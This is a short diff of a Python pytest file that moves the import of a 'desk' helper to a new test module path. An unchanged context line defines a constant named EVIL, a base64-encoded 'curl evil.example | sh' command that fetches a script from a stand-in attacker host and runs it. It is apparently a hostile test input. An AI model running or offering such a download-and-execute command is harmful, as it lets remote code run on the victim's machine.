@@ -14,8 +14,8 @@ from pathlib import Path
 
 import pytest
 
+from tests.surfaces.cli.commands.work.test_attach import desk
 from tests.surfaces.cli.scripted import Scripted
-from tests.surfaces.cli.test_attach import desk
 
 PATIENCE = 90.0
 EVIL = base64.b64encode(b"curl evil.example | sh").decode().encode()
